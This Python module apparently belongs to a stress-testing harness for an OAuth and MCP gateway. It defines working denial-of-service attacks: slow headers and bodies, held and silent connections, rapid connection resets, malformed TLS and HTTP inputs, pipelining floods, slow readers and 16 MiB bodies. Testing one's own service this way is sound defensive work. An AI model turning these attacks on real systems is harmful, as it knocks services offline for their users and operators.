"""Attacks on connections, without a credential. Few of them send a whole request."""

import asyncio
import os
import socket
import struct

from attack import EVERYWHERE, Attack, ConnectionHolder, plain

DOCUMENT = "/.well-known/oauth-authorization-server"
STYLE = "/assets/lockkeeper.css"
# RFC 8446 4.1.2: the record announces 512 bytes of a ClientHello, and 60 follow
HALF_HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(range(49))


class SlowHeads(ConnectionHolder):
    name, what = "slow-heads", "1,200 connections that send a byte of a head every 2 s"
    short = ("loopback", "one")

    def begin(self, held):
        held.transport.write(b"GET /mcp HTTP/1.1\r\nHost: gateway.test\r\nX-Slow: ")

    def more(self, held):
        held.transport.write(b"a")


class SlowBodies(ConnectionHolder):
    name, what = "slow-bodies", "1,200 connections that send a byte of a body every 2 s"
    sources = EVERYWHERE
    paths = ("/oauth/token", "/oauth/register", "/mcp", "/login")

    def begin(self, held):
        path = self.paths[held.number % len(self.paths)]
        form = "application/json" if path == "/mcp" else "application/x-www-form-urlencoded"
        head = plain(self.context, held.source, "POST", path, {"Content-Type": form}).replace(b"Content-Length: 0", b"Content-Length: 10000")
        held.transport.write(head + b"a")

    def more(self, held):
        held.transport.write(b"a")


class Silent(ConnectionHolder):
    name, what = "silent", "1,200 connections that send nothing"
    bare = True


class Idle(ConnectionHolder):
    name, what = "idle", "1,200 connections that stay open after one request"

    def begin(self, held):
        held.transport.write(plain(self.context, held.source, "GET", DOCUMENT))


class OpenClose(Attack):
    name, what, rate = "open-close", "connections that are reset as soon as they are open", 500
    short = ("network", "one")

    async def run(self, context):
        async for number in context.paced():
            context.sent += 1
            asyncio.ensure_future(self.open(context, context.source(number)))

    async def open(self, context, source):
        connection = socket.socket()
        try:
            connection.setblocking(False)
            connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            connection.bind((source.bind, 0))
            goal = (context.target.host, context.target.port)
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(connection, goal), 5)
            context.outcomes["opened"] += 1
        except (OSError, asyncio.TimeoutError):
            context.outcomes["no connection"] += 1
        finally:
            connection.close()


class Garbage(ConnectionHolder):
    name, what = "garbage", "half a TLS hello, random bytes, half a request line, endless heads, then silence"
    rate, bare = 300, True

    def begin(self, held):
        kinds = (
            HALF_HELLO,
            os.urandom(300),
            b"GET /m",
            b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9),
            b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: %s\r\n" % (number, b"a" * 80) for number in range(90)),
            b"GET / HTTP/1.1\r\nX: " + b"a" * 100_000,
            b"POST /oauth/token HTTP/1.1\r\nHost: gateway.test\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
        )
        held.transport.write(kinds[held.number % len(kinds)])


class Pipelines(ConnectionHolder):
    name, what = "pipelines", "32 connections that pipeline 50 requests at a time, 2,000 per second, and read the answers"
    rate, most, every, ahead = 40, 32, 0.8, 50

    def begin(self, held):
        held.owed = 0
        self.more(held)

    def more(self, held):
        if held.owed < self.ahead:
            held.transport.write(plain(self.context, held.source, "GET", DOCUMENT) * self.ahead)
            held.owed += self.ahead
            self.context.outcomes["requests"] += self.ahead

    def received(self, held, data):
        held.owed -= data.count(b"HTTP/1.1 ")


class SlowReaders(ConnectionHolder):
    name, what = "slow-readers", "1,200 connections that request 16 style sheets each, 135 KB, and read nothing"
    rate, sources, receive_buffer = 300, EVERYWHERE, 2048

    def begin(self, held):
        held.transport.pause_reading()
        held.transport.write(plain(self.context, held.source, "GET", STYLE) * 16)


class BigBodies(ConnectionHolder):
    name, what = "big-bodies", "100 bodies of 16 MiB at once without a credential"
    sources = EVERYWHERE
    rate, most, every, size = 100, 100, 0.1, 16 << 20
    chunk = b"[" + b"1," * 16_383 + b"1"
    paths = ("/mcp", "/oauth/token", "/oauth/register", "/sse", "/login")

    def begin(self, held):
        path = self.paths[held.number % len(self.paths)]
        head = plain(self.context, held.source, "POST", path, {"Content-Type": "application/json"})
        held.chunked, held.left = held.number % 2 == 0, self.size
        length = b"Transfer-Encoding: chunked" if held.chunked else f"Content-Length: {self.size}".encode()
        held.transport.write(head.replace(b"Content-Length: 0", length))
        self.more(held)

    def more(self, held):
        # as fast as the gateway takes it
        for _ in range(32):
            if held.left <= 0 or held.transport.get_write_buffer_size() or held.transport.is_closing():
                break
            chunk = self.chunk[: held.left]
            held.left -= len(chunk)
            held.transport.write(b"%x\r\n%s\r\n" % (len(chunk), chunk) if held.chunked else chunk)
            self.context.outcomes["KiB"] += len(chunk) >> 10


ATTACKS = (SlowHeads, SlowBodies, Silent, Idle, OpenClose, Garbage, Pipelines, SlowReaders, BigBodies)
